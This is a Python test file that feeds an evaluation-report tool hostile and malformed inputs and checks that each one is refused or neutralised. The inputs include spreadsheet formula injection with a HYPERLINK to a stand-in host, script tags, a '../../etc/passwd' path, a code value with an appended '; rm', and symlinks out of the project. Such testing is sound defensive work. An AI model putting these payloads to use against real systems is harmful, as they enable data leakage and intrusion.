"""Hostile and messy input for the newer input files: payments one row per payment or one column
per month, questionnaires (responses and questions), Kolada series kept in the data folder, the
förbund's Word template and the analysis plan. Each case must end in a clear message (file, row,
column, value, what was expected) or a correct result; never a traceback, never a personnummer or
a formula in what is written, never a changed input file."""
from __future__ import annotations

import datetime as dt
import hashlib
import json
import re
from pathlib import Path

import openpyxl
import pytest

from evaltools.data.errors import DataValidationError, EvaltoolsError
from evaltools.data.project import load_project
from evaltools.publish import cli


PNR = "811218-9876"  # shaped like a personnummer (a valid check digit), nobody's
PNR_TAIL = "9876"


def _quotes_pnr(text: str) -> bool:
    """Whether ``text`` quotes the personnummer or its last four digits as a number of their own. A
    notebook's timings and folder names hold random digits ("duration": 3.319876), so the four digits
    inside a longer number or word do not count."""
    return bool(re.search(r"(?<![\w.])(?:811218-?)?9876(?!\w)|(?<![\w.])811218", text))
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"klicka")'

PARTICIPANTS_BLOCK = "data:\n  participants: data/participants.csv\n  payments: data/{name}\n  budget: data/budget.csv\n"


# --- helpers -------------------------------------------------------------------------------------
def _snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _write(path: Path, rows: list[list[object]], how: str = "utf-8") -> Path:
    """``rows`` (the header first) as a CSV in one of the encodings and separators users send, or as
    an openpyxl-written workbook (``xlsx``, its cells as given: a date stays a date cell)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if how == "xlsx":
        path = path.with_suffix(".xlsx")
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = path.stem
        for row in rows:
            ws.append(list(row))
        wb.save(path)
        return path
    sep = ";" if how == "semicolon" else ","
    encoding = {"utf-8": "utf-8", "bom": "utf-8-sig", "cp1252": "cp1252", "semicolon": "utf-8"}[how]

    def cell(v: object) -> str:
        s = "" if v is None else str(v)
        return f'"{s.replace(chr(34), chr(34) * 2)}"' if (sep in s or '"' in s) else s

    path.write_text("\n".join(sep.join(cell(v) for v in row) for row in rows) + "\n", encoding=encoding)
    return path


def _validate(params: Path, capsys) -> tuple[int, str]:
    """``evaltools validate`` on ``params``: its exit code and all it printed, checked for what must
    never be printed."""
    before = _snapshot(params.parent)
    code = cli.main(["validate", str(params)])
    out = capsys.readouterr()
    # (the project's folder is left out of what is said: its temporary name holds a run number, which
    # could look like a figure the tests check is never repeated)
    said = (out.out + out.err).replace(str(params.parent.parent), "<project>")
    assert "Traceback" not in said and PNR_TAIL not in said, said
    assert _snapshot(params.parent) == before, "validate changed or added a file"
    return code, said


def _refused(params: Path, capsys) -> tuple[DataValidationError | EvaltoolsError, str]:
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_FAILED, said
    with pytest.raises(EvaltoolsError) as e:
        load_project(params)
    return e.value, said


def _problems(err) -> list:
    return list(getattr(err, "problems", []) or [])


# --- 1. payments, one row per payment ----------------------------------------------------------------
HOW = ["utf-8", "bom", "cp1252", "semicolon", "xlsx"]


def _per_payment(tiny_project, rows: list[list[object]], how: str = "utf-8", extra: str = "") -> Path:
    path = _write(tiny_project.dir / "data" / "utbetalningar.csv", [["person_id", "payment_date", "amount"], *rows], how)
    return tiny_project(extra, data_block=PARTICIPANTS_BLOCK.format(name=path.name))


@pytest.mark.parametrize("how", HOW)
def test_per_payment_amounts_in_swedish_writing_are_summed_into_months(how, tiny_project, capsys):
    """9 000,50 + 1 000 in January, a repayment of -500 in February against 2 000: two months."""
    params = _per_payment(tiny_project, [["P1", "2022-01-15", "9 000,50"], ["P1", "2022-01-28", "1000"],
                                         ["P1", "2022-02-03", "2000"], ["P1", "2022-02-20", "-500"]], how)
    before = _snapshot(tiny_project.dir)
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    pay = load_project(params).payments
    got = dict(zip(pay["month"].astype(str).str[:7], pay["amount"]))
    assert got == {"2022-01": pytest.approx(10000.5), "2022-02": pytest.approx(1500)}
    assert _snapshot(tiny_project.dir) == before


@pytest.mark.parametrize("how", HOW)
def test_a_per_payment_amount_in_words_is_refused_naming_row_and_column(how, tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-15", "9000"], ["P1", "2022-02-15", "niotusen"]], how)
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.row, p.column) == (3, "amount") and "niotusen" in said


@pytest.mark.parametrize("date", ["15/01/2023", "44941", "2023-13-01", "jan 2023"])
def test_a_payment_date_not_written_as_a_date_is_refused_with_the_expected_form(date, tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-15", "9000"], ["P1", date, "9000"]])
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.row, p.column) == (3, "payment_date") and date in said and "ÅÅÅÅ-MM-DD" in said


def test_payment_dates_as_excel_date_cells_are_read(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", dt.datetime(2022, 1, 15), 9000], ["P1", dt.date(2022, 2, 1), 8000]],
                          "xlsx")
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    assert sorted(load_project(params).payments["amount"]) == [8000, 9000]


def test_a_repayment_bigger_than_the_month_is_refused_naming_its_rows(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-05", "3000"], ["P1", "2022-01-25", "-5000"],
                                         ["P2", "2022-03-01", "7000"]])
    err, said = _refused(params, capsys)
    assert {p.row for p in _problems(err)} <= {2, 3} and "3" in said
    assert "-5000" not in said and "5000" not in said  # one person's amount is not repeated


def test_a_person_in_the_payments_but_not_among_the_participants_is_a_note_without_the_id(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-05", "3000"], ["X9Q7", "2022-01-25", "5000"]])
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    assert "unknown_person" in {w.code for w in load_project(params).warnings}
    assert "X9Q7" not in said


def test_a_personnummer_as_a_payment_id_is_refused_without_quoting_it(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-05", "3000"], [PNR, "2022-01-25", "5000"]])
    err, _ = _refused(params, capsys)
    assert PNR_TAIL not in str(err)


# --- 2. payments, one column per month ----------------------------------------------------------------
def _wide(tiny_project, rows: list[list[object]], how: str = "utf-8") -> Path:
    path = _write(tiny_project.dir / "data" / "bredd.csv", rows, how)
    return tiny_project(data_block=PARTICIPANTS_BLOCK.format(name=path.name))


@pytest.mark.parametrize("how", HOW)
def test_wide_payments_with_a_total_and_a_comment_column_are_read(how, tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", "2022-01", "2022-02", "Summa 2022", "Kommentar"],
                                  ["P1", "9000", "8 500,50", "17500,50", "ok"], ["P2", "", "1200", "1200", ""]], how)
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    pay = load_project(params).payments
    assert sorted(pay["amount"]) == pytest.approx([1200, 8500.5, 9000])


def test_wide_payments_with_excel_date_headings_are_read(tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", dt.datetime(2022, 1, 1), dt.datetime(2022, 2, 1)],
                                  ["P1", 9000, 8000]], "xlsx")
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    months = sorted(load_project(params).payments["month"].astype(str).str[:7])
    assert months == ["2022-01", "2022-02"]


@pytest.mark.parametrize("how", ["utf-8", "xlsx"])
def test_two_columns_for_one_month_are_refused_naming_both(how, tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", "2022-01", "2022-02", "2022-01"], ["P1", "9000", "8000", "100"]], how)
    err, said = _refused(params, capsys)
    assert "2022-01" in said


@pytest.mark.parametrize("how", ["utf-8", "xlsx"])
def test_an_empty_heading_over_amounts_is_refused(how, tiny_project, capsys):
    """A column of amounts without a heading would be lost without a word."""
    params = _wide(tiny_project, [["person_id", "2022-01", "", "2022-03"], ["P1", "9000", "8000", "100"]], how)
    err, said = _refused(params, capsys)
    assert [(p.row, p.column) for p in _problems(err)] == [(1, "C")], said


@pytest.mark.parametrize("how", ["utf-8", "xlsx"])
def test_a_personnummer_as_a_heading_or_a_cell_is_refused_without_quoting_it(how, tiny_project, capsys):
    for rows in ([["person_id", "2022-01", PNR], ["P1", "9000", "1"]],
                 [["person_id", "2022-01", "2022-02"], ["P1", "9000", PNR]]):
        params = _wide(tiny_project, rows, how)
        err, _ = _refused(params, capsys)
        assert PNR_TAIL not in str(err)


def test_a_formula_in_a_wide_cell_is_refused_naming_its_month(tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", "2022-01", "2022-02"], ["P1", "9000", "=A1*2"]])
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.row, p.column) == (2, "2022-02")


# --- 3. questionnaires ---------------------------------------------------------------------------------
QUESTION_HEADER = ["code", "wording_sv", "wording_en", "scale_min", "scale_max", "labels_sv", "labels_en", "positive"]
QUESTION_ROWS = [["F1", "Jag ser ljust på framtiden", "I am hopeful", 1, 5, "a|b|c|d|e", "", "hög"],
                 ["F3", "Något annat du vill säga?", "", "", "", "", "", ""]]
RESPONSE_HEADER = ["respondent_id", "respondent_group", "date", "question", "answer"]
SURVEY_BLOCK = "data:\n  participants: data/participants.csv\n  responses: data/{r}\n  questions: data/{q}\n"


def _survey(tiny_project, responses: list[list[object]], questions=QUESTION_ROWS, how: str = "utf-8",
            extra: str = "") -> Path:
    d = tiny_project.dir / "data"
    q = _write(d / "questions.csv", [QUESTION_HEADER, *questions], how)
    r = _write(d / "responses.csv", [RESPONSE_HEADER, *responses], how)
    return tiny_project(extra, data_block=SURVEY_BLOCK.format(r=r.name, q=q.name))


def _staff(n: int, answer: object = "4", question: str = "F1") -> list[list[object]]:
    return [[f"S{i}", "personal", "2022-10-01", question, answer] for i in range(1, n + 1)]


@pytest.mark.parametrize("how", HOW)
def test_questionnaires_in_every_encoding_are_read(how, tiny_project, capsys):
    params = _survey(tiny_project, [*_staff(6), ["S1", "personal", "2022-10-01", "F3", "Bra stöd, tack för allt"]],
                     how=how)
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    responses = load_project(params).responses
    assert sorted(responses["answer"].dropna()) == [4.0] * 6 and int(responses["free_text"].sum()) == 1


@pytest.mark.parametrize("answer", ["7", "0", "3,5", "ja", FORMULA])
def test_an_answer_off_the_scale_is_refused_naming_row_column_and_scale(answer, tiny_project, capsys):
    params = _survey(tiny_project, [*_staff(5), ["S6", "personal", "2022-10-01", "F1", answer]])
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.row, p.column) == (7, "answer") and "1" in p.text("sv") and "5" in p.text("sv")


def test_unknown_groups_and_questions_are_all_refused_at_once(tiny_project, capsys):
    params = _survey(tiny_project, [*_staff(5), ["S6", "chefer_x", "2022-10-01", "F1", "4"],
                                    ["S7", "personal", "2022-10-01", "F9", "4"]])
    err, said = _refused(params, capsys)
    assert {(p.row, p.column) for p in _problems(err)} == {(7, "respondent_group"), (8, "question")}
    assert "chefer_x" in said and "F9" in said


def test_free_text_with_a_personnummer_is_refused_without_quoting_it(tiny_project, capsys):
    params = _survey(tiny_project, [*_staff(5), ["S1", "personal", "2022-10-01", "F3", f"ring mig, {PNR}"]])
    err, _ = _refused(params, capsys)
    assert PNR_TAIL not in str(err)


def test_a_formula_in_free_text_is_never_kept(tiny_project, capsys):
    """A free-text answer's words are not kept: a formula there cannot reach a report or a workbook."""
    params = _survey(tiny_project, [*_staff(5), ["S1", "personal", "2022-10-01", "F3", FORMULA]])
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    responses = load_project(params).responses
    assert not [v for c in responses.columns for v in responses[c].tolist() if "HYPERLINK" in str(v)]


@pytest.mark.parametrize("labels", ["a|b|c", "a|b|c|d|e|f", "a||c|d|e|"])
def test_a_label_list_of_the_wrong_length_is_refused_with_both_counts(labels, tiny_project, capsys):
    questions = [["F1", "Jag ser ljust på framtiden", "", 1, 5, labels, "", "hög"]]
    params = _survey(tiny_project, _staff(5), questions=questions)
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.file.endswith("questions.csv"), p.row, p.column) == (True, 2, "labels_sv") and "5" in p.text("en")


def test_a_group_of_four_respondents_is_counted_but_never_shown(tiny_project, monkeypatch):
    import evaltools as et
    params = _survey(tiny_project, [*_staff(6), *[[f"B{i}", "styrelse", "2022-10-01", "F1", "5"] for i in range(1, 5)]])
    sheet = et.Report(load_project(params)).key_tables()["enkater"]
    assert set(sheet["group"]) == {"personal"}


@pytest.mark.parametrize("level", [9, 0])
def test_a_survey_goal_whose_level_is_off_the_questions_scale_is_refused(level, tiny_project, capsys):
    """level: 9 on a 1–5 scale passed validate: a goal no answer could meet, reported as missed."""
    params = _survey(tiny_project, _staff(6), extra=f"goals:\n  - {{id: g, kind: survey, label: L, question: F1, "
                                                    f"group: personal, level: {level}, target: 0.5}}\n")
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert p.file.endswith("questions.csv") and f"nivå {level}" in p.text("sv") and "1–5" in p.text("en")


def test_more_respondents_than_invited_is_refused_naming_the_group(tiny_project, capsys):
    """invited: {personal: 2} with six staff answering gave a response rate of 300 %."""
    params = _survey(tiny_project, [*_staff(6), ["", "personal", "2023-10-01", "F1", "4"]],
                     extra="survey:\n  invited: {personal: 2, styrelse: 5}\n")
    err, said = _refused(params, capsys)
    (p,) = _problems(err)  # 2022: six named respondents; 2023: one anonymous answer, within the two asked
    assert "personal" in p.text("sv") and "6" in p.text("sv") and "2022" in p.text("en")
    ok = _survey(tiny_project, _staff(6), extra="survey:\n  invited: {personal: 6}\n")
    assert _validate(ok, capsys)[0] == cli.EXIT_OK


# --- 4. Kolada series kept in the data folder ----------------------------------------------------------
KOLADA_GOAL = """\
goals:
  - id: lang
    kind: context
    label: Långvarigt försörjningsstöd i kommunen
    kolada: {kpi: N31807, municipality: '0305'}
"""
CACHE = "kolada_N31807_0305.csv"
GOOD_ROW = ["N31807", "0305", "2024-05-02", "https://api.kolada.se/v3/data/kpi/N31807/municipality/0305"]


@pytest.mark.parametrize("content", [
    "{not: csv at all",  # a JSON answer saved by hand, broken
    json.dumps({"values": [{"kpi": "N31807", "period": 2022, "values": [{"gender": "T", "value": 5}]}]}),
    "period,value,kpi,municipality,fetched,url\n",  # the header and nothing more
    "period,value,kpi,municipality,fetched,url\n2022,=1+1," + ",".join(GOOD_ROW) + "\n",  # a formula as a value
    "period,value,kpi,municipality,fetched,url\n2022,nan," + ",".join(GOOD_ROW) + "\n",
    "period,value,kpi,municipality,fetched,url\n2022,inf," + ",".join(GOOD_ROW) + "\n",
    "period,value,kpi,municipality,fetched,url\n2022,4.5,U30446,0305,2024-05-02,x\n",  # another KPI's series
    "period,value,kpi,municipality,fetched,url\n2022,4.5,N31807,0180,2024-05-02,x\n",  # another municipality
    "period,value,kpi,municipality,fetched,url\n2022,4.5,N31807,0305,2024-13-45,x\n",
    "period,value,kpi,municipality,fetched,url\n2022,4.5," + FORMULA.replace(",", ";") + ",0305,2024-05-02,x\n",
    b"\xff\xfe\x00garbage".decode("latin-1"),
])
def test_a_corrupt_or_edited_kolada_file_is_refused_naming_it(content, tiny_project, capsys):
    (tiny_project.dir / "data" / CACHE).write_text(content, encoding="utf-8")
    params = tiny_project(KOLADA_GOAL)
    before = _snapshot(tiny_project.dir)
    err, said = _refused(params, capsys)
    assert CACHE in said and "HYPERLINK" not in said
    assert _snapshot(tiny_project.dir) == before, "the kept series is neither replaced nor fetched again"


def test_a_good_kolada_file_gives_the_goal_its_series(tiny_project, capsys):
    (tiny_project.dir / "data" / CACHE).write_text(
        "period,value,kpi,municipality,fetched,url\n2022,4.5," + ",".join(GOOD_ROW) + "\n"
        "2023,3.25," + ",".join(GOOD_ROW) + "\n", encoding="utf-8")
    params = tiny_project(KOLADA_GOAL)
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    (goal,) = load_project(params).params.goals
    assert [(p.period, p.value) for p in goal.series] == [(2022, 4.5), (2023, 3.25)]
    assert "2024-05-02" in goal.series_source


@pytest.mark.parametrize("answer", [ValueError("Expecting value: line 1 column 1"), ["not", "a", "dict"],
                                    {"values": "x"}, {"values": [{"kpi": "N31807", "period": "=1+1", "values": []}]}])
def test_a_kolada_answer_that_is_not_json_or_not_kolada_is_a_message(answer, tmp_path):
    from evaltools.data import kolada

    def opener(url):
        if isinstance(answer, Exception):
            raise answer
        return answer
    with pytest.raises(kolada.KoladaError) as e:
        kolada.fetch_series("N31807", "0305", opener=opener)
    assert "N31807" in e.value.message("sv") and "N31807" in e.value.message("en")


KOLADA_ANSWER = {"values": [{"kpi": "N31807", "municipality": "0305", "period": 2022,
                              "values": [{"gender": "T", "value": 395.5}]}]}


@pytest.mark.parametrize("target", ["data/participants.csv", "../outside.csv", "missing.csv"])
def test_a_kolada_file_that_is_a_link_is_never_written_through(target, tiny_project, monkeypatch, capsys):
    """The kept series' name linked to the participant file (or outside the project): fetching the
    series wrote Kolada's numbers over what the link pointed at."""
    from evaltools.data import kolada
    monkeypatch.setattr(kolada, "_get_json", lambda url: KOLADA_ANSWER)  # (no network in a test)
    root = tiny_project.dir
    (root.parent / "outside.csv").write_text("period,value\n2020,1\n", encoding="utf-8")
    link = root / "data" / CACHE
    link.symlink_to((root / target).resolve() if target != "missing.csv" else root / "data" / "missing.csv")
    params = tiny_project(KOLADA_GOAL)
    before = _snapshot(root) | {"outside": hashlib.sha256((root.parent / "outside.csv").read_bytes()).hexdigest()}
    assert cli.main(["kolada", "N31807", "0305", "--project", str(params)]) == cli.EXIT_FAILED
    said = capsys.readouterr()
    assert CACHE in said.err and "Traceback" not in said.out + said.err
    if target == "missing.csv":
        err, _ = _refused(params, capsys)  # a link to nothing is not fetched into either
        assert CACHE in str(err)
        assert not (root / "data" / "missing.csv").exists()
    after = _snapshot(root) | {"outside": hashlib.sha256((root.parent / "outside.csv").read_bytes()).hexdigest()}
    assert after == before and link.is_symlink()


def test_a_kolada_series_that_cannot_be_kept_is_a_message(tiny_project, monkeypatch, capsys):
    from evaltools.data import kolada
    monkeypatch.setattr(kolada, "_get_json", lambda url: KOLADA_ANSWER)
    (tiny_project.dir / "data" / CACHE).mkdir()  # a folder where the file would go
    params = tiny_project(KOLADA_GOAL)
    assert cli.main(["kolada", "N31807", "0305", "--project", str(params)]) == cli.EXIT_FAILED
    said = capsys.readouterr()
    assert CACHE in said.err and "Traceback" not in said.out + said.err
    err, _ = _refused(params, capsys)
    assert CACHE in str(err)


@pytest.mark.parametrize(("ref", "said_sv", "said_en"), [
    ("{kpi: '../../etc', municipality: '0305'}", "'../../etc' är inget nyckeltal i Kolada; ett id är en bokstav och fem siffror",
     "'../../etc' is not a Kolada KPI id; an id is a letter and five digits"),
    ("{kpi: N31807, municipality: '0305; rm'}", "'0305; rm' är ingen kommunkod; en kommunkod är fyra siffror",
     "'0305; rm' is not a municipality code; a code is four digits"),
])
def test_a_kolada_reference_that_kolada_cannot_have_is_worded_in_the_params_language(ref, said_sv, said_en,
                                                                                      tiny_project, capsys):
    """The KPI id was refused with pydantic's "String should match pattern '^[A-Z]\\d{5}$'"."""
    from evaltools.data.errors import ParamsError
    from evaltools.data.params import load_params
    params = tiny_project(f"goals:\n  - {{id: k, kind: context, label: L, kolada: {ref}}}\n")
    with pytest.raises(ParamsError) as e:
        load_params(params)
    assert said_sv in e.value.message("sv") and said_en in e.value.message("en")
    assert "pattern" not in e.value.message("en")


def test_payments_cover_all_participants_that_is_no_yes_or_no_is_worded(tiny_project):
    from evaltools.data.errors import ParamsError
    from evaltools.data.params import load_params
    params = tiny_project(data_block="data:\n  participants: data/participants.csv\n  payments: data/payments.csv\n"
                                     "  payments_cover_all_participants: kanske\n")
    with pytest.raises(ParamsError) as e:
        load_params(params)
    assert "payments_cover_all_participants: står 'kanske'; förväntat true eller false" in e.value.message("sv")
    assert "payments_cover_all_participants: got 'kanske'; expected true or false" in e.value.message("en")


# --- 5. the Word template -------------------------------------------------------------------------------
@pytest.mark.parametrize("case", ["passwd", "directory", "not_zip", "link_out", "link_in_to_outside"])
def test_a_word_template_that_is_not_the_projects_docx_is_refused(case, tiny_project, tmp_path_factory, capsys):
    root = tiny_project.dir
    outside = tmp_path_factory.mktemp("outside")
    (outside / "mall.docx").write_bytes(b"PK\x05\x06" + b"\x00" * 18)  # an empty zip, outside the project
    value = {"passwd": "../../etc/passwd", "directory": "mallar.docx", "not_zip": "mall.docx",
             "link_out": "lank.docx", "link_in_to_outside": "mall/lank.docx"}[case]
    if case == "directory":
        (root / "mallar.docx").mkdir()
    elif case == "not_zip":
        (root / "mall.docx").write_text("<script>alert(1)</script>", encoding="utf-8")
    elif case == "link_out":
        (root / "lank.docx").symlink_to(outside / "mall.docx")
    elif case == "link_in_to_outside":
        (root / "mall").mkdir()
        (root / "mall" / "lank.docx").symlink_to(outside / "mall.docx")
    params = tiny_project(f"word_template: {value}\n")
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_FAILED and "word_template" in said, said
    assert "root:" not in said
    expected = {"passwd": "är inget Word-dokument", "directory": "är en mapp", "not_zip": "går inte att läsa som Word-dokument",
                "link_out": "ligger utanför projektmappen", "link_in_to_outside": "ligger utanför projektmappen"}[case]
    assert expected in said, said


# --- 6. the analysis plan -------------------------------------------------------------------------------
@pytest.mark.parametrize(("body", "encoding"), [
    (f"# Plan\n\nFastställd: 2022-01-10\n\n<script>alert('{PNR}')</script>\n", "utf-8"),
    (f"# Plan\n\nFastställd: 2022-01-10\n\nHandläggare nås på {PNR}.\n", "utf-8"),
    ("# Plan\n\nFastställd: 2022-01-10\n\nÅtgärder för deltagarna.\n", "cp1252"),  # saved by an old editor
])
def test_a_plan_with_a_script_or_a_personnummer_is_cited_by_name_only(body, encoding, tiny_project, capsys):
    """The appendix cites the plan by its heading and date; a Windows-1252 plan stopped the report."""
    import evaltools as et
    from evaltools.present.plan import citation, plan_path
    params = tiny_project()
    path = plan_path(params, "sv")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(body.encode(encoding))
    code, said = _validate(params, capsys)
    assert "<script" not in said
    cited = citation(et.Report(load_project(params))) or ""
    assert "”Plan”" in cited and "2022-01-10" in cited and path.name not in cited
    assert "<script" not in cited and PNR_TAIL not in cited


# --- 7. render refuses what validate refuses ----------------------------------------------------------
@pytest.mark.slow
@pytest.mark.usefixtures("worker_zygote")  # (tests/conftest.py)
def test_render_of_a_refused_project_says_why_and_writes_nothing(tiny_project, tmp_path_factory, capsys):
    params = _wide(tiny_project, [["person_id", "2022-01", "", PNR], ["P1", "9000", "8000", "1"]])
    out = tmp_path_factory.mktemp("reports")
    before = _snapshot(tiny_project.dir)
    code = cli.main(["render", str(params), "--reports-dir", str(out), "--formats", "html", "--quiet"])
    said = capsys.readouterr()
    assert code == cli.EXIT_FAILED
    assert "Traceback" not in said.out + said.err and PNR_TAIL not in said.out + said.err
    assert "bredd.csv" in said.out + said.err and "kolumn C" in said.out + said.err
    assert not [p for p in out.rglob("*") if p.suffix in (".html", ".pdf") and p.name != "index.html"]
    for kept in out.rglob("*"):  # a failed render's notebook, kept for inspection, quotes no personnummer
        if kept.is_file():
            assert not _quotes_pnr(kept.read_bytes().decode("utf-8", errors="replace")), kept.name
    assert _snapshot(tiny_project.dir) == before


# --- 8. all of it at once, rendered ---------------------------------------------------------------------
def _messy_project(tiny_project) -> Path:
    """Per-payment Windows-1252 payments with a semicolon, decimal commas and repayments; a
    questionnaire with a formula as free text and a board of four; a kept Kolada series; a plan
    with a script and a personnummer."""
    d = tiny_project.dir / "data"
    _write(d / "utbetalningar.csv", [["person_id", "payment_date", "amount"],
                                     *[[p, f"2022-{m:02d}-{day:02d}", amount] for p in ("P1", "P2", "P3", "P4")
                                       for m in range(1, 13) for day, amount in ((5, "6 100,50"), (20, "-100,50"))]],
           "cp1252")
    _write(d / "questions.csv", [QUESTION_HEADER, QUESTION_ROWS[0],
                                 ["F2", "=1+2 " + FORMULA, "", 1, 5, "-a|+b|@c|=d|e", "", "hög"],  # shown as text
                                 QUESTION_ROWS[1]], "semicolon")
    _write(d / "responses.csv", [RESPONSE_HEADER, *_staff(6), *_staff(6, "2", "F2"),
                                 ["S1", "personal", "2022-10-01", "F3", '=HYPERLINK("http://x.example/svar","svar")'],
                                 *[[f"B{i}", "styrelse", "2022-10-01", "F1", "5"] for i in range(1, 5)]], "bom")
    (d / CACHE).write_text("period,value,kpi,municipality,fetched,url\n2021,410," + ",".join(GOOD_ROW) + "\n"
                           "2022,395.5," + ",".join(GOOD_ROW) + "\n", encoding="utf-8")
    block = ("data:\n  participants: data/participants.csv\n  payments: data/utbetalningar.csv\n"
             "  payments_cover_all_participants: true\n  budget: data/budget.csv\n"
             "  responses: data/responses.csv\n  questions: data/questions.csv\n")
    goals = KOLADA_GOAL + ("  - {id: kanner, kind: survey, label: Personalen instämmer, question: F1, group: personal,"
                           " level: 4, target: 0.5}\n"
                           "  - {id: styrelsen, kind: survey, label: Ledningen instämmer, question: F1, group: styrelse,"
                           " level: 4, target: 0.7}\n")
    params = tiny_project(goals, data_block=block)
    from evaltools.present.plan import plan_path
    plan = plan_path(params, "sv")
    plan.parent.mkdir(parents=True, exist_ok=True)
    plan.write_text(f"# Plan\n\nFastställd: 2021-12-01\n\n<script>alert('{PNR}')</script>\n", encoding="utf-8")
    return params


@pytest.mark.slow
@pytest.mark.usefixtures("worker_zygote")  # (tests/conftest.py)
def test_a_messy_project_renders_without_a_personnummer_formula_or_script_in_any_output(tiny_project, tmp_path_factory):
    from evaltools.publish import render
    params = _messy_project(tiny_project)
    before = _snapshot(tiny_project.dir)
    out = tmp_path_factory.mktemp("reports")
    res = render.render_project(params, out, formats=("html", "xlsx", "csv"))
    assert res.ok, res.error
    assert _snapshot(tiny_project.dir) == before, "no input was changed or added to"
    written = [p for p in out.rglob("*") if p.is_file()]
    assert any(p.suffix == ".html" for p in written) and any(p.suffix == ".xlsx" for p in written)
    for p in written:
        if p.suffix == ".xlsx":  # the question's words are there, as text cells: never a formula
            wb = openpyxl.load_workbook(p)
            cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
            assert not [c.coordinate for c in cells if c.data_type == "f"], p.name
            body = "\n".join(str(c.value) for c in cells)
        else:
            body = p.read_bytes().decode("utf-8-sig", errors="replace")
        if p.suffix == ".csv":  # a spreadsheet would run a cell that begins with = + - @ as a formula
            sep = ";" if p.parent.name == "tables" else ","
            cells_csv = [c.strip('"') for line in body.splitlines() for c in line.split(sep)]
            assert not [c for c in cells_csv if c[:1] in ("=", "+", "@")], p.name
        assert not _quotes_pnr(body) and "<script>alert" not in body, p.name
        assert "Styrelse" not in body, p.name  # a group of four is never shown
        assert "x.example/svar" not in body, p.name  # the free-text answer is never kept
